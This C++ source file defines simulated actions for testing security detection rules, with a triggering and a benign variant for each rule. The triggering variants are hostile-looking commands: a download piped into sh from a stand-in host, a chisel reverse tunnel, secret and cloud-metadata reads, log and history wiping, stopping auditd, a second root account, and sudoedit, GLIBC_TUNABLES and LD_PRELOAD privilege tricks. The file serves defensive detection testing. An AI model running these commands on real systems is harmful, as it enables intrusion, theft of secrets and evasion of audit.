// Actions for 40-tools.yaml, 60-masquerade.yaml and 70-privilege.yaml: what programs are started.

#include "simulate/action.h"

namespace gyr::simulate {
namespace {

using enum Where;

constexpr std::array kActions{
    RuleAction{"Package Tool in Container", {container, {"call apk add tool"}}, {container, {"call apk --version"}}},
    RuleAction{
        "Network Tool in Container", {container, {"call nmap -sS 203.0.113.0/24"}}, {container, {"?ls /usr/bin/nmap"}}},
    RuleAction{"Tunnel Tool in Container",
               {container, {"call chisel client 203.0.113.5 R:socks"}},
               {host, {"call chisel client 203.0.113.5 R:socks"}}},
    RuleAction{"Download Tool in Interactive Container Session",
               {container, {"terminal call curl -O http://203.0.113.5/x"}},
               {container, {"call curl -O http://203.0.113.5/x"}}},
    RuleAction{
        "Compiler in Container", {container, {"call gcc -o x x.c"}}, {container, {"as make spawn call gcc -o x x.c"}}},
    RuleAction{
        "Kernel Module Tool in Container", {container, {"call insmod x.ko"}}, {container, {"call modprobe -n x"}}},
    RuleAction{"Container Client in Container",
               {container, {"call kubectl get secrets"}},
               {host, {"call kubectl get secrets"}}},
    RuleAction{"Remote Shell or Copy Client in Container",
               {container, {"call ssh user@203.0.113.5"}},
               {container, {"as git spawn call ssh git@203.0.113.5"}}},
    RuleAction{
        "Debugger in Container", {container, {"call strace -p 1"}}, {container, {"as make spawn call gdb --batch"}}},
    RuleAction{"Account Change in Interactive Container Session",
               {container, {"terminal call useradd eve"}},
               {container, {"call useradd eve"}}},
    RuleAction{"Scheduled Job Changed in Container", {container, {"call crontab -"}}, {container, {"call crontab -l"}}},
    RuleAction{"Credential Search in Container",
               {container, {"?find /root -maxdepth 1 -name id_rsa"}},
               {container, {"?find /root -maxdepth 1 -name x"}}},
    RuleAction{"Cloud Metadata Queried in Container",
               {container, {"call curl -s http://169.254.169.254/latest/meta-data/"}},
               {container, {"call curl -s http://203.0.113.5/"}}},
    RuleAction{"Fake Kernel Thread", {host, {"named kworker/u8:3"}}, {host, {"named worker"}}},
    RuleAction{"Disguised Process Name",
               {host, {"argv0 'sshd                ' /bin/sleep 0"}},
               {host, {"argv0 'two words' /bin/sleep 0"}}},
    RuleAction{
        "System Daemon Name from Unusual Path", {host, {"imitate /root/sshd"}}, {host, {"imitate /opt/tools/sshd"}}},
    RuleAction{"Shell History Tampering", {host, {"rm -f /root/.bash_history"}}, {host, {"rm -f /root/history"}}},
    RuleAction{"Login Log Cleared",
               {host, {"?truncate -s 0 /var/log/auth.log"}},
               {host, {"?truncate -s 0 /var/log/application.log"}}},
    RuleAction{
        "Security Service Stopped", {host, {"call systemctl stop auditd"}}, {host, {"call systemctl status auditd"}}},
    RuleAction{"Set-id Program in Interactive Container Session",
               {container, {"?terminal user 65534 su --version"}},
               {container, {"?user 65534 su --version"}}},
    RuleAction{"Set-id Program Outside System Directories",
               {container, {"copy /srv/tool", "chmod 4755 /srv/tool", "user 65534 /srv/tool"}},
               {container, {"copy /srv/tool", "chmod 4755 /srv/tool", "/srv/tool"}}},
    RuleAction{"Capabilities Gained in Interactive Container Session",
               {container, {"copy /srv/tool", "grant /srv/tool", "terminal user 65534 /srv/tool"}},
               {container, {"copy /srv/tool", "grant /srv/tool", "user 65534 /srv/tool"}}},
    RuleAction{"User Switched in Interactive Container Session",
               {container, {"terminal call sudo -n true"}},
               {container, {"call sudo -n true"}}},
    RuleAction{"Failed su or sudo in Container",
               {container, {"?terminal refuse su -c true"}},
               {container, {"terminal call su -c true"}}},
    RuleAction{"Set-id Bit Given to Program",
               {container, {"copy /srv/tool", "chmod u+s /srv/tool"}},
               {container, {"copy /srv/tool", "chmod 755 /srv/tool"}}},
    RuleAction{"Search for Set-id Programs",
               {container, {"find /etc -maxdepth 0 -perm -4000"}},
               {container, {"find /etc -maxdepth 0 -perm 644"}}},
    RuleAction{"Bulk Data Destroyed",
               {host, {"make /tmp/data", "?call shred -u /tmp/data"}},
               {host, {"make /tmp/data", "call shred --version"}}},
    RuleAction{
        "Cron Table Replaced from Pipe", {host, {"on-pipe call crontab -"}}, {host, {"on-pipe call crontab -l"}}},
    RuleAction{"Second Account of Root", {host, {"call useradd -o -u 0 eve"}}, {host, {"call useradd -o -u 1000 eve"}}},
    RuleAction{
        "Firewall Switched Off", {host, {"call iptables -t nat -F"}}, {host, {"call iptables -t nat -F DOCKER"}}},
    RuleAction{
        "File Made Unchangeable", {host, {"call chattr +i /etc/cron.d/job"}}, {host, {"call chattr +C /srv/images"}}},
    RuleAction{"Program in Temporary Directory Run by Service",
               {host, {"copy /tmp/tool", "user 65534 /tmp/tool"}},
               {host, {"copy /opt/tool", "user 65534 /opt/tool", "copy /tmp/tool", "/tmp/tool"}}},
    RuleAction{"Download Piped into Shell by Service",
               {host, {"user 65534 sh -c 'true curl -s http://203.0.113.5/x | sh'"}},
               {host, {"sh -c 'true curl -s http://203.0.113.5/x | sh'"}}},
    RuleAction{"Download Tool Given Proxy of Its Own",
               {host, {"env https_proxy=http://203.0.113.5:3128 gyr deed call curl https://example.com/"}},
               {host, {"env https_proxy=http://203.0.113.5:3128 gyr deed spawn call curl https://example.com/"}}},
    RuleAction{
        "Files Copied out of Container",
        {container, {"on-unix as containerd-shim spawn call tar cf - /root"}},
        {container,
         {"on-unix as containerd-shim spawn call tar xf - -C /root", "on-unix as sh spawn call tar cf - /root"}}},
    RuleAction{"SSH Server Loaded Backdoored Library",
               {host, {"make /opt/lib/liblzma.so.5.6.1", "as sshd read /opt/lib/liblzma.so.5.6.1"}},
               {host, {"make /opt/lib/liblzma.so.5.6.2", "as sshd read /opt/lib/liblzma.so.5.6.2"}}},
    RuleAction{"Network Scanner on Host", {host, {"call nmap -sS 203.0.113.0/24"}}, {host, {"ls /opt"}}},
    RuleAction{"Interactive Shell of Service User",
               {host, {"terminal user 65534 sh -i -c true"}},
               {host, {"user 65534 sh -i -c true"}}},
    RuleAction{"Loader Tunables Given to Set-id Program",
               {host, {"?user 65534 env GLIBC_TUNABLES=glibc.malloc.mxfast=1 su --version"}},
               {host, {"?user 65534 env GLIBC_TUNABLES=glibc.malloc.mxfast=1 true"}}},
    RuleAction{
        "Exploit of pkexec or sudo", {host, {"call sudoedit -s 'aaaa\\'"}}, {host, {"call sudoedit -s /etc/hosts"}}},
    RuleAction{"Root Taken without Set-id Program",
               {host, {"as tool nothing", "user-with-setuid 65534 as tool become-root"}},
               {host, {"as tool nothing", "user 65534 as tool stay-user"}}},
    RuleAction{"Library Forced on Privileged Program",
               {host, {"?env LD_PRELOAD=/home/eve/none.so gyr deed call sshd"}},
               {host, {"env LD_PRELOAD=/home/eve/none.so true"}}},
};

} // namespace

std::span<const RuleAction> program_actions() { return kActions; }

} // namespace gyr::simulate
